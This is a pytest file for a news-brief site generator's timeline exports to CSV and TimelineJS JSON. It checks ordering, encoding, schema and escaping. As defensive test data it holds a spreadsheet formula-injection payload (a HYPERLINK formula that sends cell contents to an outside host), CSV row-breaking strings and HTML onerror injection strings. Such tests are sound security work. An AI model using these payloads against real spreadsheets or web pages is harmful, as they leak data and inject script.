"""The timeline as CSV, read by Python's csv module, and as JSON for TimelineJS."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import Any

import jsonschema
import pytest
from lxml import html as markup
from samples import HOSTILE_TITLE, bare, document, flood, hostile, statement

from generator.corpus import gather
from generator.export.sharing import shared_files
from generator.export.site import Site
from generator.export.tables import COLUMNS
from generator.model import Brief, Section

SITE = Site(name="Orla Desk", url="https://desk.example/orla")


def made(*briefs: Brief, site: Site = SITE) -> dict[str, bytes]:
    files = shared_files(gather(briefs), site)
    return {path: data for path, data in files if path.endswith(("timeline.csv", "timeline.json"))}


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def dated(*dates: str, text: str = "The dam broke", **fields: Any) -> Brief:
    """A brief with an event for each of `dates`."""
    source = document("a.txt", f"{text}.", published="2024-05-06")
    held = tuple(statement((source,), Section.TIMELINE, text, date=d, date_text=d, **fields) for d in dates)
    return Brief(slug="dam", title="Dam", sources=(source,), statements=held, engine="test/1")


def test_there_is_a_table_of_the_site_and_of_each_brief_with_a_date() -> None:
    assert set(made(flood(), bare())) == {
        "timeline.csv", "timeline.json", "briefs/dam/timeline.csv", "briefs/dam/timeline.json",
    }  # fmt: skip


# — CSV ———————————————————————————————————————————————————————————————————————————————————————————————————————————————


def test_a_row_tells_an_event_with_its_proof() -> None:
    found = rows(made(flood())["briefs/dam/timeline.csv"])
    assert len(found) == 2
    row = next(r for r in found if r["precision"] == "day")
    assert row["page"].startswith("https://desk.example/orla/briefs/dam/index.html#timeline-")
    assert row | {"page": ""} == {
        "date": "2024-05-03", "date_end": "2024-05-03", "precision": "day", "date_text": "3 May 2024",
        "status": "reported", "text": "Heavy rain burst the Orla dam.", "speaker": "",
        "quote": "Heavy rain burst the Orla dam", "sentence": "1", "publisher": "The Vessin Paper",
        "source_title": "Dam bursts above Vessin", "source_date": "2024-05-04",
        "source_url": "https://paper.example/dam?id=1", "brief": "dam", "brief_title": "Dam bursts above Vessin",
        "page": "", "review": "",
    }  # fmt: skip


def test_rows_are_in_the_order_of_time_whichever_brief_they_are_from() -> None:
    other = replace(dated("2023", "2024-05-02", "2030-01"), slug="other")
    found = rows(made(flood(), other)["timeline.csv"])
    assert [(r["date"], r["date_end"], r["brief"], r["status"]) for r in found] == [
        ("2023-01-01", "2023-12-31", "other", "reported"),
        ("2024-05-01", "2024-05-31", "dam", "reported"),
        ("2024-05-02", "2024-05-02", "other", "reported"),
        ("2024-05-03", "2024-05-03", "dam", "reported"),
        ("2030-01-01", "2030-01-31", "other", "expected"),
    ]


def test_it_opens_in_a_spreadsheet_as_it_is() -> None:
    data = made(dated("2024", text='Über "Ördö", она сказала'))["timeline.csv"]
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == data.count(b"\n") == 2
    assert rows(data)[0]["text"] == 'Über "Ördö", она сказала.'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\ufeff="])
def test_no_cell_is_a_formula(start: str) -> None:
    text = f'{start}HYPERLINK("https://x.example?"&A1)'
    brief = replace(dated("2024", text=text, speaker=text), title=text)
    source = replace(brief.sources[0], publisher=text, title=text)
    data = made(replace(brief, sources=(source,)))["timeline.csv"]
    (row,) = rows(data)
    assert not [cell for cell in row.values() if cell.strip().startswith(tuple("=+-@＝＋－＠")) or cell[:1].isspace()]
    assert row["quote"].endswith('HYPERLINK("https://x.example?"&A1)')


def test_no_text_of_a_source_adds_rows_or_columns() -> None:
    brief = hostile('";,\r\n"=1+1"\n' + HOSTILE_TITLE)
    reader = list(csv.reader(io.StringIO(made(brief)["timeline.csv"].decode("utf-8-sig"), newline="")))
    assert [len(row) for row in reader] == [len(COLUMNS)] * 2


# — TimelineJS ————————————————————————————————————————————————————————————————————————————————————————————————————————

_DATE = {
    "type": "object",
    "required": ["year"],
    "additionalProperties": False,
    "dependentRequired": {"day": ["month"], "hour": ["day"], "minute": ["hour"]},
    "properties": {
        "year": {"type": "integer"},
        "month": {"type": "integer", "minimum": 1, "maximum": 12},
        "day": {"type": "integer", "minimum": 1, "maximum": 31},
        "hour": {"type": "integer", "minimum": 0, "maximum": 23},
        "minute": {"type": "integer", "minimum": 0, "maximum": 59},
    },
}
_TEXT = {
    "type": "object",
    "additionalProperties": False,
    "properties": {"headline": {"type": "string"}, "text": {"type": "string"}},
}
_SLIDE = {
    "type": "object",
    "additionalProperties": False,
    "required": ["text", "unique_id"],
    "properties": {
        "start_date": _DATE, "end_date": _DATE, "text": _TEXT, "display_date": {"type": "string"},
        "unique_id": {"type": "string", "minLength": 1}, "autolink": {"type": "boolean"},
    },
}  # fmt: skip
FORMAT = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "type": "object",
    "required": ["events"],
    "additionalProperties": False,
    "properties": {
        "title": _SLIDE,
        "events": {"type": "array", "items": _SLIDE | {"required": ["start_date", "text", "unique_id"]}},
        "scale": {"enum": ["human", "cosmological"]},
    },
}
"""What https://timeline.knightlab.com/docs/json-format.html says of the properties that are used."""


def slides(*briefs: Brief, path: str = "timeline.json", site: Site = SITE) -> dict[str, Any]:
    read: dict[str, Any] = json.loads(made(*briefs, site=site)[path])
    jsonschema.Draft202012Validator(FORMAT).validate(read)
    return read


@pytest.mark.parametrize(
    ("value", "dates", "shown"),
    [
        ("2024-05-03", {"start_date": {"year": 2024, "month": 5, "day": 3}}, "3 May 2024"),
        ("2024-05", {"start_date": {"year": 2024, "month": 5}}, "May 2024"),
        ("2024", {"start_date": {"year": 2024}}, "2024"),
        (
            "2024-05-03T14:05",
            {"start_date": {"year": 2024, "month": 5, "day": 3, "hour": 14, "minute": 5}},
            "3 May 2024, 14:05",
        ),
        (
            "199X",
            {"start_date": {"year": 1990, "month": 1, "day": 1}, "end_date": {"year": 1999, "month": 12, "day": 31}},
            "1990s",
        ),
        (
            "2023-05/2023-07-03",
            {"start_date": {"year": 2023, "month": 5, "day": 1}, "end_date": {"year": 2023, "month": 7, "day": 3}},
            "May 2023 – 3 July 2023",
        ),
    ],
)
def test_a_slide_has_the_precision_of_its_event(value: str, dates: dict[str, Any], shown: str) -> None:
    (slide,) = slides(dated(value))["events"]
    assert {name: slide[name] for name in ("start_date", "end_date") if name in slide} == dates
    assert slide["display_date"] == shown


def test_a_slide_quotes_its_source_and_leads_to_the_brief() -> None:
    read = slides(flood(), path="briefs/dam/timeline.json")
    assert read["title"]["text"] == {
        "headline": "Dam bursts above Vessin", "text": "<p>Heavy rain burst the Orla dam on 3 May 2024.</p>",
    }  # fmt: skip
    slide = next(s for s in read["events"] if "rain" in s["text"]["headline"])
    quote, origin, page = markup.fragments_fromstring(slide["text"]["text"])
    assert quote.text_content() == "Heavy rain burst the Orla dam"
    assert origin.text_content() == "— The Vessin Paper, 4 May 2024, sentence 1"
    assert [a.get("href") for a in origin.iter("a")] == [
        "https://paper.example/dam?id=1", "https://desk.example/orla/briefs/dam/source-1.html#s1",
    ]  # fmt: skip
    assert page.text_content() == "Dam bursts above Vessin"


def test_slides_of_several_briefs_have_names_of_their_own() -> None:
    briefs = [dated("2024-05-03"), replace(dated("2024-05-03"), slug="other")]
    names = [slide["unique_id"] for slide in slides(*briefs)["events"]]
    assert len(set(names)) == 2


def test_without_events_there_is_an_empty_timeline() -> None:
    assert slides(bare())["events"] == []


@pytest.mark.parametrize("text", [HOSTILE_TITLE, "&lt;img src=x onerror=a&gt; <img src=x onerror=b> &amp;lt;i&amp;gt;"])
def test_no_text_of_a_source_is_markup(text: str) -> None:
    read = slides(hostile(text), site=Site(name=text))
    for slide in (read["title"], *read["events"], slides(hostile(text), path="briefs/hostile/timeline.json")["title"]):
        for part in slide["text"].values():
            elements = list(markup.fragment_fromstring(part, create_parent="main").iter())
            assert {e.tag for e in elements} <= {"main", "blockquote", "p", "a", "span"}
            assert {name for e in elements for name in e.attrib} <= {"lang", "dir", "href"}
    (slide,) = read["events"]
    assert markup.fromstring(slide["text"]["headline"]).text_content().startswith(text[:-1])
